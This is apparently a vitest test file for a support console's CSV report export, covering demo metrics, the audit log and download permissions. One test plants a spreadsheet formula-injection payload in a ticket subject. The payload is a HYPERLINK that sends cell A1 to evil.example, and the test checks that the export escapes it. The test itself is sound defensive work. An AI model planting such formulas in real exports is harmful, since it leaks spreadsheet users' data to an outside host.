import { defaultReportPeriod } from "@madoguchi/core/report/report-period";
import type { Db } from "@madoguchi/db/client/create-client";
import { seedDemo } from "@madoguchi/db/seed/seed-demo";
import { openTestDb } from "@madoguchi/db/testing/test-database";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Session } from "../context/session";
import { switchableSession } from "../inquiry/inquiry-test-kit";
import { reportCsvHandler } from "./report-csv-http";
import { adminCallerAt, createReportTicket, jst, minutes } from "./report-test-kit";

const NOW = jst("2026-11-28 12:00");
const PERIOD = defaultReportPeriod(NOW);
const MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細はこちら")';

describe("report exports and the demo data's figures", () => {
  let db: Db;
  let close: () => Promise<void>;
  const session = switchableSession();
  let ids: Record<"agent" | "lead" | "admin", string>;
  let staff: Record<"agent" | "lead" | "admin", Session>;
  let customer: Session;
  const download = (as: Session | null, path: string, headers: Record<string, string> = {}) => {
    session.as(as);
    const url = new URL(`http://console.test/api/reports/${path}`);
    const report = url.pathname.split("/").at(-1) ?? "";
    return reportCsvHandler({ sessionSource: session.source, db: () => db, now: () => NOW })(
      new Request(url, { headers }),
      { report },
    );
  };
  const query = (extra = "") => `from=${PERIOD.from}&to=${PERIOD.to}${extra}`;

  beforeAll(async () => {
    ({ db, close } = await openTestDb());
    await seedDemo(db, NOW);
    const id = async (email: string) =>
      (await db.staff.findUniqueOrThrow({ where: { email }, select: { id: true } })).id;
    ids = {
      agent: await id("agent.funds@staff.example.jp"),
      lead: await id("lead.funds@staff.example.jp"),
      admin: await id("admin@staff.example.jp"),
    };
    staff = {
      agent: { kind: "staff", staffId: ids.agent, role: "agent" },
      lead: { kind: "staff", staffId: ids.lead, role: "lead" },
      admin: { kind: "staff", staffId: ids.admin, role: "admin" },
    };
    const hanako = await db.customer.findUniqueOrThrow({
      where: { email: "hanako@example.jp" },
      select: { id: true },
    });
    customer = { kind: "customer", customerId: hanako.id };
  }, 120_000);
  afterAll(async () => close());

  it("computes the demo exchange's figures", async () => {
    const all = await adminCallerAt(db, staff.admin, NOW).report.overview({ ...PERIOD });
    expect(all.volume.total).toBe(8);
    expect(all.volume.byType).toEqual({ login: 1, trading: 1, funds: 3, system: 1, security: 1, other: 1 });
    // Every answered demo ticket got its first reply 30 minutes after it was filed.
    expect(all.responseTimes.firstResponse).toEqual({ count: 6, medianSeconds: 1800, p90Seconds: 1800 });
    // Resolved after 90, 60 and 60 minutes: median 60; p90 = 60 + 0.8 × 30 = 84 minutes.
    expect(all.responseTimes.resolution).toEqual({ count: 3, medianSeconds: 3600, p90Seconds: 5040 });
    expect(all.sla).toMatchObject({ met: 6, breached: 0, pending: 2, attainment: 1 });
    expect(all.reopens).toMatchObject({ finishedOnce: 3, reopened: 0, rate: 0 });
    expect(all.csat).toMatchObject({ count: 3, average: 4 });
    expect(all.backlog.at(-1)).toEqual({ day: PERIOD.to, open: 5 });

    const funds = await adminCallerAt(db, staff.lead, NOW).report.overview({ ...PERIOD });
    expect(funds.volume.total).toBe(3);
    expect(funds.sla).toMatchObject({ met: 2, breached: 0, pending: 1 });
    expect(funds.csat).toMatchObject({ count: 1, average: 3 });
    expect(funds.backlog.at(-1)).toEqual({ day: PERIOD.to, open: 2 });
  });

  it("exports a formula typed as a ticket subject as plain text", async () => {
    await createReportTicket(db, {
      number: "X-01",
      team: "funds",
      createdAt: jst("2026-11-27 09:00"),
      subject: MALICIOUS,
      firstResponseAfter: minutes(20),
      status: "open",
    });
    const response = await download(staff.lead, `tickets?team=funds&${query()}`, {
      "user-agent": "report-export-test",
      "x-forwarded-for": "203.0.113.7",
    });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="madoguchi-tickets-funds-${PERIOD.from}_${PERIOD.to}.csv"`,
    );
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes).slice(1);
    const line = csv.split("\r\n").find((row) => row.startsWith("X-01,"));
    expect(line).toBe(
      `X-01,2026-11-27 09:00,入出金サポート,入出金に関するトラブル,report_test,open,normal,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""詳細はこちら"")",20,期限内,,`,
    );
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const audit = await db.auditLog.findFirstOrThrow({
      where: { action: "report.exported", actorId: ids.lead },
      orderBy: { id: "desc" },
      select: { objectType: true, objectId: true, ip: true, userAgent: true, data: true },
    });
    expect(audit).toEqual({
      objectType: "report",
      objectId: "tickets",
      ip: "203.0.113.7",
      userAgent: "report-export-test",
      data: { team: "funds", from: PERIOD.from, to: PERIOD.to, granularity: "day", rows: 4 },
    });
  });

  it("exports each summary with a total row", async () => {
    const sla = await download(staff.admin, `sla?${query()}`);
    expect(sla.status).toBe(200);
    const lines = (await sla.text()).replace(/^\uFEFF/, "").split("\r\n");
    expect(lines[0]).toBe("期間,期限内,期限超過,判定待ち,達成率（%）");
    expect(lines.at(-2)).toBe("合計,7,0,2,100");
    for (const kind of ["volume", "response-times", "backlog", "reopens", "csat", "deflection"]) {
      const response = await download(staff.lead, `${kind}?granularity=week&${query()}`);
      expect(response.status, kind).toBe(200);
    }
  });

  it("answers who may not download, and what is not a report", async () => {
    const before = await db.auditLog.count({ where: { action: "report.exported" } });
    const cases: [Session | null, string, number][] = [
      [null, `sla?${query()}`, 401],
      [customer, `sla?${query()}`, 401],
      [{ kind: "staff_enrollment", staffId: ids.admin }, `sla?${query()}`, 403],
      [staff.agent, `sla?${query()}`, 403],
      [staff.lead, `sla?team=security&${query()}`, 403],
      [staff.admin, `salaries?${query()}`, 404],
      [staff.admin, "sla?from=2026-11-30&to=2026-11-01", 400],
      [staff.admin, "sla?from=2020-01-01&to=2026-11-01", 400],
    ];
    for (const [as, path, status] of cases) {
      const response = await download(as, path);
      expect(response.status, path).toBe(status);
      expect(response.headers.get("content-disposition"), path).toBeNull();
    }
    expect(await db.auditLog.count({ where: { action: "report.exported" } })).toBe(before);
  });
});
